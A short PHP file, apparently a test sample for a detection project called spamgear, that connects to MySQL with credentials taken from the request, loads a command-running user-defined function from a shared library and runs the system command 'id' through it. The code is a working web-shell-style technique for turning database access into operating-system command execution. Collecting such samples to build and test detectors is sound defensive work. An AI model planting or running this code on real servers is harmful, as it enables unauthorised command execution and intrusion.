<?php
// spamgear test sample (written for the project): a SQL tool that loads a
// command-running user-defined function into MySQL from a shared library.
$db = mysqli_connect('localhost', $_POST['u'], $_POST['p']);
mysqli_query($db, "CREATE FUNCTION sys_run RETURNS STRING SONAME 'lib_udf.so'");
echo mysqli_fetch_row(mysqli_query($db, "SELECT sys_run('id')"))[0];
